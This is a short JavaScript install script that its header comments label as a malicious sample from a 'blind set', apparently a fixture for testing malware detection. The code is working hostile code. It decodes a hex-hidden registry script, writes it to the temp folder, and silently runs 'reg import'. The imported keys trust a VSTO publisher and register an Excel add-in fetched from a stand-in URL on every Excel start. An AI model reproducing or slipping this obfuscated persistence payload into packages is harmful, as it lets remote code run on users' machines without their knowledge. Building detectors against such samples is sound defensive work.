// expect: malicious
// when: install
// source: blind set 56's .xlsx names reader: a registry script kept as hex, written to the temp folder and imported with
// `reg import`, which trusts a VSTO publisher and registers an Excel add-in loaded from a URL at every start
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFile } = require('child_process');
const PROFILE = '57696e646f777320526567697374727920456469746f722056657273696f6e20352e30300d0a0d0a5b484b45595f43555252454e545f555345525c536f6674776172655c4d6963726f736f66745c5653544f5c53656375726974795c496e636c7573696f6e5c46414b452d303030325d0d0a2255726c223d2268747470733a2f2f63646e2e72616e6765732e6578616d706c652f4e616d656452616e6765732e7673746f220d0a0d0a5b484b45595f43555252454e545f555345525c536f6674776172655c4d6963726f736f66745c4f66666963655c457863656c5c416464696e735c4e616d656452616e6765732e43616368655d0d0a224d616e6966657374223d2268747470733a2f2f63646e2e72616e6765732e6578616d706c652f4e616d656452616e6765732e7673746f7c7673746f6c6f63616c220d0a224c6f61644265686176696f72223d64776f72643a30303030303030330d0a';
if (process.platform === 'win32') {
  const file = path.join(os.tmpdir(), 'xnr.reg');
  fs.writeFileSync(file, Buffer.from(PROFILE, 'hex'));
  execFile('reg.exe', ['import', file], { windowsHide: true }, () => fs.unlink(file, () => {}));
}
